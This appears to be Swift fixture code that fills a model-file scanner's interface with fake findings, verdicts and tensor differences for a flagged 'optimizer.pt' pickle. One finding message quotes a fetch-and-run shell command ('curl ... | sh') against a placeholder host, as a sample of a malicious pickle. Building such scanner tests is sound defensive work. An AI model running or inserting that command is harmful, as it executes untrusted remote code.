import Console
import Domain

extension FakeLab {
    func file(_ path: String, of id: AssetID) -> FileDetail? {
        guard let detail = asset(id), let file = detail.files.last, let revision = detail.revisions.first,
            path == "optimizer.pt" || detail.files.contains(where: { $0.path == path })
        else { return nil }
        let text = isHostile ? FakeLabContents.hostile : nil
        let call = FileFinding(
            rule: "pickle.dangerous-global", severity: "malicious", members: ["archive/data.pkl"], offset: 1_337,
            message: text
                ?? "calls `os.system`('curl -s https://example.net/x | sh'), which starts or signals processes",
            remedy: "do not load it; get the weights as safetensors from who made them",
            references: ["CWE-502", "ATLAS AML.T0011.000"])
        let hidden = FileFinding(
            rule: "container.hidden-member", severity: "suspicious", members: [], offset: 4_096,
            message: text ?? "a member `archive/extra.pkl` is there that the directory does not name",
            remedy: "make the file again", references: ["CWE-436"])
        let note = FileFinding(
            rule: "pickle.nested", severity: "note", members: ["archive/data.pkl", text ?? "string at byte 90"],
            offset: nil, message: "a string that is a pickle; nothing loads it", remedy: "", references: [])
        return FileDetail(
            asset: id,
            file: RevisionFile(path: text ?? path, bytes: 1_204_224, digest: file.digest, verdict: .malicious),
            revision: revision,
            judgements: [
                FileJudgement(
                    verdict: .malicious, format: "torch-zip", rulesVersion: "2026.11.2",
                    time: Self.now - .seconds(3_600), digest: FakeLabContents.digest(41).hex,
                    findings: [hidden, call, note]),
                FileJudgement(
                    verdict: .clean, format: "torch-zip", rulesVersion: "2026.11.1",
                    time: Self.now - .seconds(180_000), digest: FakeLabContents.digest(40).hex, findings: []),
            ],
            acceptances: [
                FileAcceptance(
                    person: FakeLabContents.person("ada"), reason: text ?? "a sample for the scanner's own tests",
                    time: Self.now - .seconds(1_800), ends: Self.now + .seconds(5 * 86_400))
            ],
            isSigned: true,
            contents: FileContents(
                parts: [
                    FilePart(members: ["archive/data.pkl"], format: "pickle", bytes: 8_204),
                    FilePart(members: ["archive/data.pkl", text ?? "string at byte 90"], format: "pickle", bytes: 96),
                ]
                    + (0..<250).map {
                        FilePart(members: ["archive/data/\($0)"], format: text ?? "numbers", bytes: 4_736)
                    }, total: 252))
    }

    func difference(of id: AssetID, in commit: String?, since earlier: String?) -> RevisionDifference? {
        guard let revisions = asset(id)?.revisions, commit == nil || commit == revisions[0].commit else { return nil }
        let text = isHostile ? FakeLabContents.hostile : nil
        return RevisionDifference(
            before: revisions[1], after: revisions[0],
            files: [
                .init(path: text ?? "config.json", change: .changed, bytesBefore: 1_204, bytesAfter: 1_240),
                .init(path: text ?? "model-00001.safetensors", change: .changed, bytesBefore: 4_976, bytesAfter: 4_976),
                .init(path: text ?? "optimizer.pt", change: .added, bytesBefore: nil, bytesAfter: 1_204_224),
                .init(path: text ?? "notes.txt", change: .removed, bytesBefore: 90, bytesAfter: nil),
            ])
    }

    func difference(
        of path: String, of id: AssetID, in commit: String?, since earlier: String?
    ) -> FileDifference? {
        guard let revisions = asset(id)?.revisions, path != "absent" else { return nil }
        let text = isHostile ? FakeLabContents.hostile : nil
        let tensors = (0..<24).map { number in
            let isFrozen = number % 6 == 5
            return TensorDifference(
                name: text ?? "layers.\(number).mlp.up.weight", before: "BF16 [4096, 1024]", after: "BF16 [4096, 1024]",
                isSame: isFrozen,
                numbers: .init(
                    normBefore: 181.3, normAfter: number == 7 ? 362.6 : 181.4,
                    relativeUpdate: isFrozen ? 0 : number == 7 ? 1 : 0.000_31 * Double(number + 1),
                    changedShare: isFrozen ? 0 : 0.97, flippedShare: number == 7 ? 0.31 : 0.000_4,
                    notFinite: number == 7 ? 3 : 0),
                notes: number == 7 ? [text ?? "it was multiplied by 2", "3 numbers are NaN and 0 infinite"] : [])
        }
        let added = TensorDifference(
            name: text ?? "probe.weight", before: nil, after: "F32 [16]", isSame: false, numbers: nil,
            notes: [text ?? "is new: F32 [16]"])
        return FileDifference(
            path: text ?? path, before: revisions[1], after: revisions[0],
            outcome: path.hasSuffix(".json")
                ? .notCompared(text ?? "Its bytes are the same in both revisions.")
                : .compared(tensors + [added], notes: []))
    }
}
